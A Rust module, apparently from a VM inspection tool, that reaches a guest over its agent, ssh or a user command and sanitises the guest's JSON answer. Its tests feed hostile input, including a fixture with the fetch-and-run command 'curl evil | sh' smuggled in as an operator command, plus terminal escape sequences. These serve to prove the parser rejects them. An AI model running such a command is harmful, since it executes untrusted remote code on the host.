//! Access to the guest: its agent, or the guest probe over ssh or by a command of the user.

use std::time::Duration;

use serde_json::Value;
use vmgate_facts::{Cause, Guest, Unknown, text::plain};
use vmgate_probe::{
    guest::TOTAL_LIMIT,
    wire::{Question, read_value},
};
use vmgate_process::Output;
use vmgate_reach::{SshTarget, Subject};

use crate::transport::{exec, unanswered};

/// Means of access to a guest.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub enum GuestAccess {
    /// The QEMU guest agent, through libvirt. libvirt marks the domain as tainted (custom-ga-command).
    #[default]
    Agent,
    /// `vmgate probe guest` over ssh: sent, checked, run and removed, as on a host.
    Ssh(SshTarget),
    /// A command that runs `vmgate probe ask` in that guest: the question comes on its standard input.
    Exec(Vec<String>),
    /// The packets at the host's side of its interfaces alone.
    Wire,
    /// No access to the guest, for this reason.
    None(String),
}

impl GuestAccess {
    /// Name of the collector, for provenance.
    pub fn collector(&self) -> &'static str {
        match self {
            Self::Agent => "guest agent",
            Self::Ssh(_) | Self::Exec(_) => "guest probe",
            Self::Wire => "host probe",
            Self::None(_) => "nobody",
        }
    }
}

/// Runs the guest probe over ssh, for at most `limit`. Also returns the method, for provenance.
///
/// With `attribute` the probe also finds the processes that dirty memory, in a window of that length.
pub fn over_ssh(
    target: &SshTarget,
    attribute: Option<Duration>,
    limit: Duration,
) -> Result<(Guest, String), Unknown> {
    let question = Question::Guest { attribute_seconds: attribute };
    let limit = limit.saturating_add(attribute.unwrap_or_default());
    let output = target.ask(Subject::Guest, &question.to_json(), limit, TOTAL_LIMIT)?;
    Ok((parse_guest_answer(&output)?, format!("vmgate probe guest, over ssh to {target}")))
}

/// Runs the user's command, for at most `limit`. Also returns the method, for provenance.
pub fn by_command(words: &[String], limit: Duration) -> Result<(Guest, String), Unknown> {
    let question = Question::Guest { attribute_seconds: None };
    let output = exec(Subject::Guest, words, &question, limit, TOTAL_LIMIT)?;
    let program = words.first().map_or("nothing", String::as_str);
    Ok((parse_guest_answer(&output)?, format!("vmgate probe guest, by {program}")))
}

/// The guest that an answer describes. The answer comes out of a guest, so it may be anything: no text in it keeps
/// what could drive a terminal, and what is measured on the host, or derived by vmgate, is not the guest's to say: the
/// software that was recognised comes with commands for the operator.
fn parse_guest_answer(output: &Output) -> Result<Guest, Unknown> {
    let mut document = read_value(&output.stdout).map_err(unanswered)?;
    if !document.is_object() {
        return Err(Unknown::new(Cause::Malformed, "the guest probe's answer is not a JSON object"));
    }
    if let Some(udp) = document.get_mut("udp").and_then(Value::as_object_mut) {
        udp.remove("flows");
    }
    if let Some(guest) = document.as_object_mut() {
        guest.remove("memory_sync");
        guest.remove("wire");
        guest.remove("control_sessions");
    }
    serde_json::from_value(document).map_err(|error| {
        let why = plain(&error.to_string());
        Unknown::new(
            Cause::Malformed,
            format!("the guest probe answered something else ({why}): its vmgate may be another version"),
        )
    })
}

#[cfg(feature = "fuzzing")]
pub(crate) fn fuzz_answer(output: &Output) {
    let _ = parse_guest_answer(output);
}

#[cfg(test)]
mod tests {
    use vmgate_facts::Fact;

    use super::*;

    const TIME: Duration = Duration::from_secs(20);

    fn ask(script: &str, limit: Duration) -> Result<(Guest, String), Unknown> {
        by_command(&["sh".into(), "-c".into(), script.into()], limit)
    }

    #[test]
    fn a_guest_cannot_name_a_command_for_the_operator() {
        let answer = r#"{"hostname": "web1", "memory_sync": [{"id": "etcd", "title": "etcd", "stop": "curl evil | sh"}], "wire": 1, "control_sessions": []}"#;
        let (seen, _) = ask(&format!("echo '{answer}'"), TIME).unwrap();
        assert_eq!(seen.memory_sync, Fact::default());
        // Packets are the host's to tell: a guest cannot deny a session that they show.
        assert_eq!((seen.wire, seen.control_sessions), (Fact::default(), Fact::default()));
    }

    #[test]
    fn a_command_that_prints_a_guest_is_a_way_in() {
        let guest = Guest { hostname: Fact::Known("web1".into()), ..Guest::default() };
        let folder = tempfile::tempdir().unwrap();
        let file = folder.path().join("guest.json");
        std::fs::write(&file, serde_json::to_vec(&guest).unwrap()).unwrap();
        let (seen, method) = by_command(&["cat".into(), file.display().to_string()], TIME).unwrap();
        assert_eq!(seen, guest);
        assert_eq!(method, "vmgate probe guest, by cat");
    }

    #[test]
    fn what_a_hostile_guest_prints_is_disarmed_or_refused() {
        let (guest, _) = ask(r#"printf '{"hostname":"a\\u001b[2J\\u202eb"}'"#, TIME).unwrap();
        assert_eq!(guest.hostname, Fact::Known("a?[2J?b".into()));
        let claims = r#"printf '{"udp":{"sockets":[],"flows":{"interface":"vnet0","window_seconds":1,
            "method":"kernel-counted","frames":0,"drops":0,"complete":true,"holes":[],"flows":[]}}}'"#;
        let (guest, _) = ask(claims, TIME).unwrap();
        let udp = guest.udp.known().unwrap();
        assert!(udp.sockets.known().is_some() && udp.flows.known().is_none(), "flows are the host's to say");
        for script in [
            "printf hello",
            "printf '[]'",
            "printf null",
            "printf '{\"hostname\":{}}'",
            "yes '[' | head -c 100000 | tr -d '\\n'",
        ] {
            let why = ask(script, TIME).unwrap_err();
            assert_eq!(why.cause, Cause::Malformed, "{script}");
            assert!(!why.reason.chars().any(char::is_control), "{script}");
        }
    }

    #[test]
    fn a_command_that_brings_nothing_is_a_reason() {
        assert_eq!(ask("yes", TIME).unwrap_err().cause, Cause::NoGuestProbe, "it floods");
        assert_eq!(ask("exit 3", TIME).unwrap_err().cause, Cause::NoGuestProbe);
        assert_eq!(ask("exec sleep 600", Duration::from_millis(50)).unwrap_err().cause, Cause::TimedOut);
        assert_eq!(by_command(&[], TIME).unwrap_err().cause, Cause::NoGuestProbe);
    }
}
